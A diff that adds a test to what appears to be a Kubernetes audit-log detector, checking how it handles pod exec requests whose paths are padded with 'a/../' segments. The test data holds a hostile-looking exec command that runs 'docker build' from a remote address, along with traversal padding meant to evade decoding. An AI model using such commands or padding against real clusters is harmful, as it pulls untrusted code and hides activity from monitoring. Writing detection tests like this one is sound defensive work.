@@ -477,3 +477,17 @@ def test_what_says_nothing_of_a_step_is_no_relief() -> None:
 
     assert ("daemon.image_built",) == step.signals
     assert not step.is_relieved
+
+
+def test_a_path_of_a_clusters_that_is_too_long_to_be_decoded_is_told() -> None:
+    audit = {"apiVersion": "audit.k8s.io/v1", "kind": "Event", "stage": "ResponseComplete"}
+    asked = {"verb": "create", "objectRef": {"resource": "pods", "subresource": "exec"}}
+    ends = "exec?command=docker&command=build&command=http://198.51.100.7/x"
+
+    def found(padding: int) -> list[str]:
+        uri = f"/api/v1/namespaces/d/pods/p/{'a/../' * padding}{ends}"
+        (finding,) = Detector(schema=AUTO).scan([{**audit, **asked, "requestURI": uri}])
+        return [each.signal.id for each in finding.evidence]
+
+    assert "daemon.remote_source" in found(9)
+    assert found(MEBIBYTE // 5) == ["daemon.oversized"]
